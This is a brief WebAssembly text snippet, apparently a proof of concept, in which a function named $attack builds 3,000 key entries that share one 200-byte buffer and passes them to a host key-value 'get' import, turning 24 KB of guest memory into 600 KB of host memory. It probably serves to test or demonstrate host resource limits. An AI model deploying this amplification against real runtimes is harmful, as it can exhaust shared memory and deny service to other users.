;; Gives the host a list of 3,000 keys that share 200 bytes: 24 KB of memory become 600 KB.
(import "heptad:platform/kv@0.1.0" "get" (func $get (param i32 i32 i32)))
(func $attack (local $at i32)
  (local.set $at (i32.const 0x1000))
  (loop $next
    (i32.store (local.get $at) (i32.const 0x400))
    (i32.store offset=4 (local.get $at) (i32.const 200))
    (local.set $at (i32.add (local.get $at) (i32.const 8)))
    (br_if $next (i32.lt_u (local.get $at) (i32.const 28096))))
  (call $get (i32.const 0x1000) (i32.const 3000) (i32.const 64)))
